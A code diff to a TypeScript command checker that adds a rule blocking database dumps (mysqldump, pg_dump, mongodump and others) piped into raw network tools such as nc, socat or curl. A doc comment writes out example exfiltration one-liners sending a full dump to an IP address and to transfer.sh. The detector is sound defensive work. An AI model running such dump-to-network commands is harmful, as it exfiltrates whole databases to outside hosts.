@@ -5,7 +5,8 @@
  *   lost laptop is ordinary); the members of an administrators' group disabled or given new passwords in one go
  *   (lock-out; flag);
  * - data exposure: disk snapshots, images and database snapshots shared with another account or with everyone, a
- *   disk's download URL handed to a copy tool, a mailbox exported to a share on an internet address (block); storage
+ *   disk's download URL handed to a copy tool, a mailbox exported to a share on an internet address, a database dump
+ *   piped to a network tool (block); storage
  *   made public and the results of a mailbox search exported (flag).
  *
  * Reading the same things (`Get-MgDeviceManagementManagedDevice`, `aws ec2 describe-snapshots`, `Get-ADGroupMember`)
@@ -344,6 +345,28 @@ function checkDiskAccessUrl(inv: Invocation, out: FindingCollector, doc: Documen
 }
 
 // ---------------------------------------------------------------------------------------------
+// Databases dumped to the network
+
+/** Tools that write a whole database to their output. */
+const DUMPERS: ReadonlySet<string> = new Set(['mysqldump', 'mariadb-dump', 'pg_dump', 'pg_dumpall', 'mongodump', 'mongoexport']);
+/** Programs that send what they read to another host without authenticating it (`ssh`/`scp` to a backup host are ordinary). */
+const RAW_SENDERS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'curl', 'wget']);
+
+/** `mysqldump --all-databases | nc 185.243.115.40 9001`, `pg_dump erp | gzip | curl --upload-file - https://transfer.sh/x`. */
+function checkDumpSent(inv: Invocation, out: FindingCollector, doc: Document): void {
+  const sender = pipelineNeighbours(doc, inv.command, 'after', 4).find((c) => RAW_SENDERS.has(c.name));
+  if (sender === undefined) return;
+  out.add(
+    exposure(
+      'exposure.db-dump-sent',
+      `${inv.name} dumps a database straight into ${sender.name}, which sends it to another host.`,
+      'block',
+    ),
+    [commandWord(inv), sender.words[0]],
+  );
+}
+
+// ---------------------------------------------------------------------------------------------
 // Mail exported
 
 /** The host of a UNC path (`\\host\share\…`), lower case. */
@@ -387,4 +410,5 @@ const CHECKS = new ChecksByName([
   { check: checkSharedData, names: ['aws', 'gcloud', 'gsutil', 'az', 'set-azstoragecontaineracl', 'new-azstoragecontainer'] },
   { check: checkDiskAccessUrl, names: ['az', 'grant-azsnapshotaccess', 'grant-azdiskaccess'] },
   { check: checkMailExport, names: ['new-mailboxexportrequest', 'new-compliancesearchaction'] },
+  { check: checkDumpSent, names: [...DUMPERS] },
 ]);
